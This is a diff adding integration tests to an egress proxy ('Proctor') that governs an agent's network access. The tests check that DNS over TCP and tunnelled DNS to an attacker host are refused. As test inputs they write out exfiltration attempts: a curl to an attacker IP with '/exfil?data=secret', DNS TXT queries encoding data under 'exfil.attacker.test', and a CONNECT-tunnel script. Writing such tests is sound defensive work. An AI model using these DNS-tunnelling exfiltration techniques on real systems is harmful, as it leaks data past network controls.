@@ -27,6 +27,9 @@ Needs root (namespaces): skipped with the reason otherwise; CI runs as root.
 from __future__ import annotations
 
 import json
+import struct
+import subprocess
+import sys
 import time
 from collections.abc import Iterator
 
@@ -34,8 +37,8 @@ import pytest
 
 from conftest import DATA
 from support.transparent_netns import (
-    AGENT_UID, ATTACKER_IP, CONTROL_PORT, ERP6, ERP_IP, ERP_KEY, FORWARD_PORT, HTTP_PORT, HTTPS_PORT, PROXY_UID,
-    RAW_PORT, TRANSPARENT_PORT, UDP_PORT, Netns, Reply, why_no_netns,
+    AGENT_UID, ATTACKER_IP, CONTROL_PORT, ERP6, ERP_DNS_PORT, ERP_IP, ERP_KEY, FORWARD_PORT, HTTP_PORT, HTTPS_PORT,
+    PROXY_UID, RAW_PORT, TRANSPARENT_PORT, UDP_PORT, Netns, Reply, python_for, why_no_netns,
 )
 
 pytestmark = pytest.mark.integration
@@ -191,6 +194,132 @@ s.send("datagram around proctor", {UDP_PORT}, "{ERP_IP}", () => s.close());
 """])
     time.sleep(0.5)
     assert [r for r in fresh.received("raw") if r["kind"] == "udp"] == []
+
+
+def _raw_service(env: Netns, ip: str, port: int, udp_port: int) -> str:
+    """A TCP service on ip:port in the upstream namespace that records every connection made to
+    it (whatever arrives, a TLS ClientHello included); started once per namespace. Its log's name."""
+    name = f"raw-{ip}-{port}"
+    log = env.upstream_log(name)
+    if not log.exists():
+        log.write_text("")
+        env._in_up([sys.executable, str(env.base / "up" / "raw.py"), ip, str(port), str(udp_port), str(log)],
+                   stdin=subprocess.PIPE)
+        env._wait(lambda: f"{ip}:{port}" in env._listening(env.up_ns), f"the service on {ip}:{port}")
+    return name
+
+
+def _dns_query(name: str) -> bytes:
+    """A DNS query for a TXT record, as DNS over TCP frames it (a two-byte length first)."""
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    msg = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!HH", 16, 1)
+    return struct.pack("!H", len(msg)) + msg
+
+
+# DNS over TCP (in TLS when a CA file follows the query), as the agent: what came back.
+DNS_CLIENT = r"""
+import socket, ssl, sys
+host, port = sys.argv[1], int(sys.argv[2])
+s = socket.create_connection((host, port), timeout=5)
+if len(sys.argv) > 4:  # in TLS, trusting this CA
+    ctx = ssl.create_default_context(cafile=sys.argv[4]); ctx.check_hostname = False
+    s = ctx.wrap_socket(s, server_hostname="erp.test")
+s.sendall(bytes.fromhex(sys.argv[3]))
+got = b""
+try:
+    while True:
+        d = s.recv(4096)
+        if not d: break
+        got += d
+except OSError as e:
+    print("error", type(e).__name__)
+print("answer", got.hex())
+"""
+
+
+def test_tcp_to_port_53_of_any_host_is_governed_not_exempt(fresh: Netns):
+    """DNS over TCP is exempt from the redirect only towards pinned resolvers (this namespace
+    pins none): a service listening on port 53 of another host (an attacker's HTTP server, a
+    tunnel endpoint) is reached through Proctor or not at all, never around it."""
+    log = _raw_service(fresh, ATTACKER_IP, 53, 5399)
+    http = fresh.curl(f"http://{ATTACKER_IP}:53/exfil?data=secret")
+    assert http.status == 403 and DECISION in http.headers, http  # decided like any HTTP: egress default deny
+    assert problem(http)["reasons"] == ["egress-default-deny"]
+    raw = fresh.as_agent(["/usr/bin/node", "-e", f"""
+const s = require("net").connect(53, "{ATTACKER_IP}", () => s.write("tunnel handshake\\r\\n"));
+let got = ""; s.on("data", d => got += d); s.on("close", () => console.log(JSON.stringify(got)));
+s.on("error", e => console.log(JSON.stringify("error " + e.code)));
+"""])
+    assert "RAW-SERVICE-BANNER" not in raw.stdout + http.body
+    time.sleep(0.3)
+    assert fresh.received(log) == []  # not one TCP connection reached the service
+
+
+@pytest.mark.parametrize("port", [53, 5353])
+def test_dns_over_tcp_is_never_relayed(fresh: Netns, port: int):
+    """mitmproxy takes a connection to port 53 or 5353 for DNS by the port alone and would relay
+    its messages to whatever host it was addressed to (Proctor dials as its own uid, so around
+    the rules): a DNS query carrying data to an attacker's name server, and its answer back.
+    Refused and recorded instead, plain or in TLS; HTTP on those ports is decided like any HTTP."""
+    log = _raw_service(fresh, ATTACKER_IP, port, 5390 + port % 7)
+    query = _dns_query("c2VjcmV0LWRhdGE.exfil.attacker.test").hex()
+    client = fresh.agent_dir / "dns.py"
+    client.write_text(DNS_CLIENT)
+    python = python_for(AGENT_UID)
+    for extra in ([], [str(fresh.proctor_ca)]):
+        done = fresh.as_agent([*python, str(client), ATTACKER_IP, str(port), query, *extra])
+        assert "answer " in done.stdout, done
+        assert done.stdout.split("answer ")[1].strip() == "", done.stdout  # no DNS answer came back
+    deadline = time.monotonic() + 5
+    while sum("DNS" in (r.get("refusal") or {}).get("detail", "") and r.get("port") == port
+              for r in fresh.decisions()) < 2:
+        assert time.monotonic() < deadline, "the refused DNS connections were not recorded"
+        time.sleep(0.05)
+    refused = [r for r in fresh.decisions() if "DNS" in (r.get("refusal") or {}).get("detail", "")]
+    assert all(r["agent"] == WORKLOAD and r["decision"] == "deny" for r in refused)
+    http = fresh.curl(f"https://{ATTACKER_IP}:{port}/items/1", "-H", f"Host: erp.test:{port}", ca=True)
+    assert http.status in (403, 502) and DECISION in http.headers, http  # an HTTP request: decided
+    time.sleep(0.3)
+    assert fresh.received(log) == []  # nothing reached the attacker's port
+
+
+def test_dns_in_a_tunnel_through_the_forward_listener_is_never_relayed(fresh: Netns):
+    """The forward listener's CONNECT tunnels the same: a connector port mitmproxy reads as DNS
+    (erp.test:5353), TLS intercepted, a DNS message inside: refused, nothing dialled."""
+    log = _raw_service(fresh, ERP_IP, ERP_DNS_PORT, 5397)
+    token = fresh.token_file.read_text().strip()
+    script = fresh.agent_dir / "tunnel_dns.py"
+    script.write_text(r"""
+import socket, ssl, sys
+token, ca, query, port = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3]), sys.argv[4]
+s = socket.create_connection(("127.0.0.1", int(sys.argv[5])), timeout=5)
+s.sendall(f"CONNECT erp.test:{port} HTTP/1.1\r\nHost: erp.test:{port}\r\n"
+          f"Proxy-Authorization: Bearer {token}\r\n\r\n".encode())
+print("connect", s.recv(4096).split(b"\r\n")[0].decode())
+t = ssl.create_default_context(cafile=ca).wrap_socket(s, server_hostname="erp.test")
+t.sendall(query)
+got = b""
+try:
+    while True:
+        d = t.recv(4096)
+        if not d: break
+        got += d
+except OSError as e:
+    print("error", type(e).__name__)
+print("answer", got.hex())
+""")
+    query = _dns_query("c2VjcmV0.exfil.attacker.test").hex()
+    done = fresh.as_agent([sys.executable, str(script), token, str(fresh.proctor_ca), query, str(ERP_DNS_PORT),
+                           str(FORWARD_PORT)], uid=0)
+    assert "connect HTTP/1.1 200" in done.stdout, done  # the tunnel itself is allowed (a connector port)
+    assert done.stdout.split("answer ")[1].strip() == "", done.stdout
+    deadline = time.monotonic() + 5
+    while not any("DNS and raw TCP/UDP are never relayed" in (r.get("refusal") or {}).get("detail", "")
+                  for r in fresh.decisions()):
+        assert time.monotonic() < deadline, "the refused DNS was not recorded"
+        time.sleep(0.05)
+    time.sleep(0.3)
+    assert fresh.received(log) == []  # Proctor never dialled the port
 
 
 def test_proctors_own_port_is_refused_not_looped(fresh: Netns):
